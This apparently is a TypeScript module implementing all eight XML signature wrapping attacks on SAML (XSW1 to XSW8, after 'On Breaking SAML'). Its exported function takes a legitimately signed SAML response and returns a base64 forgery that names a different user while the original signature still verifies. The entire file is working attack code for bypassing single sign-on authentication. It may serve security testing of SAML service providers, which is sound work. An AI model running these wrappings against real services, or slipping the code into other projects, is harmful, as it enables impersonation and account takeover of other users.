import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

const first = (node: Document | Element, namespace: string, name: string): Element =>
  node.getElementsByTagNameNS(namespace, name)[0]!;

const remove = (node: Node): void => void node.parentNode!.removeChild(node);

/** Makes a copy say that it is about somebody else, under an ID of its own. */
function forge(element: Element, nameId: string, id: string | null = '_forged'): Element {
  if (id === null) element.removeAttribute('ID');
  else element.setAttribute('ID', id);
  first(element, SAML, 'NameID').textContent = nameId;
  return element;
}

type Wrap = (document: Document, nameId: string) => void;

/**
 * The eight ways of XML signature wrapping of Somorovsky and others, "On Breaking SAML" (USENIX Security 2012), as tools for
 * testing number them. Each moves what was signed to where a verifier still finds it, and puts what was
 * forged to where a reader looks. One and two wrap a signed response, the others a signed assertion.
 */
const VARIANTS: { [name: string]: Wrap } = {
  // The signed response moves into the signature of a forged one.
  XSW1: (document, nameId) => {
    const original = document.documentElement;
    const forged = forge(original.cloneNode(true) as Element, nameId);
    const signature = signatureOf(forged);
    const inner = original.cloneNode(true) as Element;
    remove(signatureOf(inner));
    signature.appendChild(inner);
    document.replaceChild(forged, original);
  },
  // The same, with the signature beside what it signs.
  XSW2: (document, nameId) => {
    const original = document.documentElement;
    const forged = forge(original.cloneNode(true) as Element, nameId);
    const signature = signatureOf(forged);
    const inner = original.cloneNode(true) as Element;
    remove(signatureOf(inner));
    forged.insertBefore(inner, signature);
    document.replaceChild(forged, original);
  },
  // A forged assertion stands before the signed one.
  XSW3: (document, nameId) => {
    const signed = first(document, SAML, 'Assertion');
    const forged = forge(signed.cloneNode(true) as Element, nameId);
    remove(signatureOf(forged));
    signed.parentNode!.insertBefore(forged, signed);
  },
  // The signed assertion stands in the forged one.
  XSW4: (document, nameId) => {
    const signed = first(document, SAML, 'Assertion');
    const forged = forge(signed.cloneNode(true) as Element, nameId);
    remove(signatureOf(forged));
    signed.parentNode!.replaceChild(forged, signed);
    forged.appendChild(signed);
  },
  // The forged assertion keeps the signature; what it signs stands at the end.
  XSW5: (document, nameId) => {
    const forged = first(document, SAML, 'Assertion');
    const original = forged.cloneNode(true) as Element;
    remove(signatureOf(original));
    forge(forged, nameId);
    document.documentElement.appendChild(original);
  },
  // The same, with what it signs in the signature.
  XSW6: (document, nameId) => {
    const forged = first(document, SAML, 'Assertion');
    const original = forged.cloneNode(true) as Element;
    remove(signatureOf(original));
    forge(forged, nameId);
    signatureOf(forged).appendChild(original);
  },
  // The forged assertion, with the ID of the signed one, stands in an element where any content may stand.
  XSW7: (document, nameId) => {
    const signed = first(document, SAML, 'Assertion');
    const forged = forge(signed.cloneNode(true) as Element, nameId, signed.getAttribute('ID'));
    remove(signatureOf(forged));
    const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(forged);
    signed.parentNode!.insertBefore(extensions, signed);
  },
  // The signed assertion stands in an object of the signature of the forged one.
  XSW8: (document, nameId) => {
    const forged = first(document, SAML, 'Assertion');
    const original = forged.cloneNode(true) as Element;
    remove(signatureOf(original));
    forge(forged, nameId, original.getAttribute('ID'));
    const object = document.createElementNS(DS, 'ds:Object');
    object.appendChild(original);
    signatureOf(forged).appendChild(object);
  },
};

export const WRAPPINGS = Object.keys(VARIANTS);

/** The signature that is a child of the element. */
function signatureOf(element: Element): Element {
  return Array.from(element.childNodes).find(
    (node): node is Element => (node as Element).localName === 'Signature' && (node as Element).namespaceURI === DS,
  )!;
}

/** A signed answer, wrapped by one of the variants so that it names somebody else. Base64 in, base64 out. */
export function wrapSignature(variant: string, answer: string, nameId: string): string {
  const document = new DOMParser().parseFromString(Buffer.from(answer, 'base64').toString('utf8'), 'text/xml');
  VARIANTS[variant]!(document, nameId);
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64');
}
